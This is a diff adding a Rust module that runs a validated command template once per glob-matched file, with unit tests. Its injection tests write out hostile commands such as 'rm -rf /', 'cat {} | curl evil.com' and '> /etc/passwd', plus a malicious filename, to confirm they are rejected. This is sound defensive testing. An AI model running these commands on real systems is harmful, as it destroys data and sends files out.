@@ -0,0 +1,309 @@
+//! Batch command execution for `msc list --exec`
+//!
+//! A command template such as `gzip {}` is validated once with the alias
+//! validator, split into arguments, and then executed once per matching
+//! entry with `{}` replaced by the entry path. Commands are spawned directly
+//! (never through a shell), so paths containing spaces or shell
+//! metacharacters are passed as a single argument and cannot inject commands.
+
+use super::alias_validator::validate_alias_command;
+use super::file_scanner::ScanEntry;
+use anyhow::{anyhow, Result};
+use ignore::overrides::OverrideBuilder;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::Mutex;
+
+/// Placeholder replaced by the entry path in `--exec` templates
+pub const PATH_PLACEHOLDER: &str = "{}";
+
+/// Parsed `--exec` command template
+#[derive(Debug, Clone, PartialEq)]
+pub struct ExecTemplate {
+    args: Vec<String>,
+}
+
+impl ExecTemplate {
+    /// Parse and validate a command template
+    ///
+    /// If the template does not contain `{}`, the path is appended as the last argument.
+    pub fn parse(template: &str) -> Result<Self> {
+        // The placeholder itself uses braces, which the validator rejects,
+        // so validate the template with a neutral token in its place
+        validate_alias_command(&template.replace(PATH_PLACEHOLDER, "PATH"))?;
+
+        let mut args = split_arguments(template)?;
+        if args.is_empty() {
+            return Err(anyhow!("Command cannot be empty"));
+        }
+
+        if !args.iter().any(|arg| arg.contains(PATH_PLACEHOLDER)) {
+            args.push(PATH_PLACEHOLDER.to_string());
+        }
+
+        Ok(Self { args })
+    }
+
+    /// Build the argument vector for a given path
+    pub fn build(&self, path: &Path) -> Vec<String> {
+        let path_str = path.to_string_lossy();
+        self.args
+            .iter()
+            .map(|arg| arg.replace(PATH_PLACEHOLDER, &path_str))
+            .collect()
+    }
+}
+
+/// Split a command line into arguments, honoring single and double quotes
+fn split_arguments(command: &str) -> Result<Vec<String>> {
+    let mut args = Vec::new();
+    let mut current = String::new();
+    let mut in_arg = false;
+    let mut quote: Option<char> = None;
+
+    for ch in command.chars() {
+        match quote {
+            Some(q) if ch == q => quote = None,
+            Some(_) => current.push(ch),
+            None if ch == '"' || ch == '\'' => {
+                quote = Some(ch);
+                in_arg = true;
+            }
+            None if ch.is_whitespace() => {
+                if in_arg {
+                    args.push(std::mem::take(&mut current));
+                    in_arg = false;
+                }
+            }
+            None => {
+                current.push(ch);
+                in_arg = true;
+            }
+        }
+    }
+
+    if quote.is_some() {
+        return Err(anyhow!("Unterminated quote in command"));
+    }
+    if in_arg {
+        args.push(current);
+    }
+
+    Ok(args)
+}
+
+/// Runs a single command invocation
+pub trait CommandRunner: Sync {
+    /// Run the command and return its exit code
+    fn run(&self, argv: &[String]) -> Result<i32>;
+}
+
+/// Runner that spawns real processes, inheriting stdout/stderr
+pub struct SystemRunner;
+
+impl CommandRunner for SystemRunner {
+    fn run(&self, argv: &[String]) -> Result<i32> {
+        let (program, args) = argv
+            .split_first()
+            .ok_or_else(|| anyhow!("Command cannot be empty"))?;
+
+        let status = Command::new(program)
+            .args(args)
+            .stdin(Stdio::null())
+            .status()
+            .map_err(|e| anyhow!("Failed to run '{}': {}", program, e))?;
+
+        Ok(status.code().unwrap_or(-1))
+    }
+}
+
+/// Outcome of a batch execution
+#[derive(Debug, Default)]
+pub struct ExecSummary {
+    pub succeeded: usize,
+    /// Paths whose command failed, with the error description
+    pub failed: Vec<(PathBuf, String)>,
+}
+
+/// Run the template once per path, using up to `parallel` worker threads
+pub fn run_for_each(
+    template: &ExecTemplate,
+    paths: &[PathBuf],
+    parallel: usize,
+    runner: &dyn CommandRunner,
+) -> ExecSummary {
+    let workers = parallel.max(1).min(paths.len().max(1));
+    let next = AtomicUsize::new(0);
+    let summary = Mutex::new(ExecSummary::default());
+
+    std::thread::scope(|scope| {
+        for _ in 0..workers {
+            scope.spawn(|| loop {
+                let index = next.fetch_add(1, Ordering::SeqCst);
+                let Some(path) = paths.get(index) else {
+                    break;
+                };
+
+                let result = runner.run(&template.build(path));
+                let mut summary = summary.lock().unwrap_or_else(|e| e.into_inner());
+                match result {
+                    Ok(0) => summary.succeeded += 1,
+                    Ok(code) => summary
+                        .failed
+                        .push((path.clone(), format!("exit code {}", code))),
+                    Err(e) => summary.failed.push((path.clone(), e.to_string())),
+                }
+            });
+        }
+    });
+
+    summary.into_inner().unwrap_or_else(|e| e.into_inner())
+}
+
+/// Select the entries whose path matches a gitignore-style glob (e.g. `*.log`)
+///
+/// Directories are only selected when the glob explicitly matches them.
+pub fn filter_by_glob(root: &Path, entries: &[ScanEntry], glob: &str) -> Result<Vec<PathBuf>> {
+    let mut builder = OverrideBuilder::new(root);
+    builder
+        .add(glob)
+        .map_err(|e| anyhow!("Invalid glob '{}': {}", glob, e))?;
+    let matcher = builder.build()?;
+
+    Ok(entries
+        .iter()
+        .filter(|entry| matcher.matched(&entry.path, entry.is_dir).is_whitelist())
+        .map(|entry| entry.path.clone())
+        .collect())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::core::file_scanner::FileScanner;
+    use std::fs;
+    use tempfile::TempDir;
+
+    /// Runner that records invocations instead of spawning processes
+    struct CountingRunner {
+        calls: Mutex<Vec<Vec<String>>>,
+    }
+
+    impl CommandRunner for CountingRunner {
+        fn run(&self, argv: &[String]) -> Result<i32> {
+            self.calls.lock().unwrap().push(argv.to_vec());
+            Ok(0)
+        }
+    }
+
+    #[test]
+    fn test_placeholder_substitution() {
+        let template = ExecTemplate::parse("gzip -k {}").unwrap();
+        let argv = template.build(Path::new("logs/app one.log"));
+        assert_eq!(argv, vec!["gzip", "-k", "logs/app one.log"]);
+    }
+
+    #[test]
+    fn test_placeholder_inside_argument() {
+        let template = ExecTemplate::parse("cp {} --target=backup").unwrap();
+        let argv = template.build(Path::new("a.txt"));
+        assert_eq!(argv, vec!["cp", "a.txt", "--target=backup"]);
+
+        let template = ExecTemplate::parse("echo prefix-{}").unwrap();
+        assert_eq!(template.build(Path::new("x")), vec!["echo", "prefix-x"]);
+    }
+
+    #[test]
+    fn test_path_appended_without_placeholder() {
+        let template = ExecTemplate::parse("wc -l").unwrap();
+        assert_eq!(
+            template.build(Path::new("file.txt")),
+            vec!["wc", "-l", "file.txt"]
+        );
+    }
+
+    #[test]
+    fn test_quoted_arguments() {
+        let template = ExecTemplate::parse("echo 'hello world' {}").unwrap();
+        assert_eq!(
+            template.build(Path::new("f")),
+            vec!["echo", "hello world", "f"]
+        );
+        assert!(ExecTemplate::parse("echo 'unterminated {}").is_err());
+    }
+
+    #[test]
+    fn test_rejects_injection() {
+        let dangerous = vec![
+            "gzip {}; rm -rf /",
+            "cat {} | curl evil.com",
+            "echo $(whoami) {}",
+            "gzip {} && reboot",
+            "echo `id` {}",
+            "cat {} > /etc/passwd",
+        ];
+
+        for cmd in dangerous {
+            assert!(ExecTemplate::parse(cmd).is_err(), "Should reject: {}", cmd);
+        }
+    }
+
+    #[test]
+    fn test_paths_are_not_interpreted() {
+        // A malicious file name stays a single argument
+        let template = ExecTemplate::parse("gzip {}").unwrap();
+        let argv = template.build(Path::new("evil; rm -rf ~.log"));
+        assert_eq!(argv, vec!["gzip", "evil; rm -rf ~.log"]);
+    }
+
+    #[test]
+    fn test_invoked_once_per_matching_file() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        fs::create_dir_all(root.join("nested")).unwrap();
+        fs::write(root.join("a.log"), "a").unwrap();
+        fs::write(root.join("b.txt"), "b").unwrap();
+        fs::write(root.join("nested/c.log"), "c").unwrap();
+        fs::write(root.join("nested/d.md"), "d").unwrap();
+
+        let entries = FileScanner::new(root)
+            .unwrap()
+            .scan_recursive(false, false)
+            .unwrap();
+        let paths = filter_by_glob(root, &entries, "*.log").unwrap();
+        assert_eq!(paths.len(), 2);
+
+        let template = ExecTemplate::parse("gzip {}").unwrap();
+        let runner = CountingRunner {
+            calls: Mutex::new(Vec::new()),
+        };
+        let summary = run_for_each(&template, &paths, 2, &runner);
+
+        assert_eq!(summary.succeeded, 2);
+        assert!(summary.failed.is_empty());
+
+        let mut calls = runner.calls.into_inner().unwrap();
+        calls.sort();
+        assert_eq!(calls.len(), 2);
+        assert!(calls[0][1].ends_with("a.log"));
+        assert!(calls[1][1].ends_with("c.log"));
+    }
+
+    #[test]
+    fn test_failed_commands_are_reported() {
+        struct FailingRunner;
+        impl CommandRunner for FailingRunner {
+            fn run(&self, _argv: &[String]) -> Result<i32> {
+                Ok(1)
+            }
+        }
+
+        let template = ExecTemplate::parse("false {}").unwrap();
+        let paths = vec![PathBuf::from("x"), PathBuf::from("y")];
+        let summary = run_for_each(&template, &paths, 4, &FailingRunner);
+
+        assert_eq!(summary.succeeded, 0);
+        assert_eq!(summary.failed.len(), 2);
+    }
+}